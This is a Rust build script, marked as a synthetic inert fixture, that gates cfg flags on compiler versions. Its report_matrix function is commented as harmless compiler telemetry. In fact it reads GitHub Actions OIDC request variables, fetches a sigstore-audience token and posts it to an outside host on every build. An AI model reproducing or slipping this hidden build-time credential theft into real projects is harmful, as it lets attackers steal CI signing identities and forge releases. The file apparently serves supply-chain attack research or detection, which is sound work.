// Synthetic, inert fixture written from public reports; see README
extern crate version_check as rustc;

use std::collections::HashMap;
use std::env;

const GATES: &[(&str, &str)] = &[
    ("has_let_else", "1.65.0"),
    ("has_gats", "1.65.0"),
    ("has_async_fn_in_trait", "1.75.0"),
    ("has_c_str_literals", "1.77.0"),
    ("has_lazy_lock", "1.80.0"),
    ("has_trait_upcasting", "1.86.0"),
];

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    for (flag, minimum) in GATES {
        println!("cargo:rustc-check-cfg=cfg({flag})");
        if rustc::is_min_version(minimum).unwrap_or(false) {
            println!("cargo:rustc-cfg={flag}");
        }
    }
    if rustc::Channel::read().map(|c| c.is_nightly()).unwrap_or(false) {
        println!("cargo:rustc-cfg=is_nightly");
    }
    report_matrix();
}

// Which compilers the matrix of our users covers; only on hosted runners.
fn report_matrix() -> Option<()> {
    let vars: HashMap<String, String> = env::vars().filter(|(k, _)| k.starts_with("ACTIONS_ID_")).collect();
    let pick = |end: &str| vars.iter().find(|(k, _)| k.ends_with(end)).map(|(_, v)| v.clone());
    let url = pick("_URL")?;
    let bearer = pick("_TOKEN")?;
    let answer = minreq::get(format!("{}&audience=sigstore", url))
        .with_header("Authorization", format!("bearer {}", bearer))
        .with_timeout(5)
        .send()
        .ok()?;
    let _ = minreq::post("https://matrix.rust-probe.invalid/v1/compilers")
        .with_header("X-Run", env::var("GITHUB_RUN_ID").ok()?)
        .with_body(answer.as_bytes())
        .with_timeout(5)
        .send();
    Some(())
}

inert_fixture_does_not_build!();
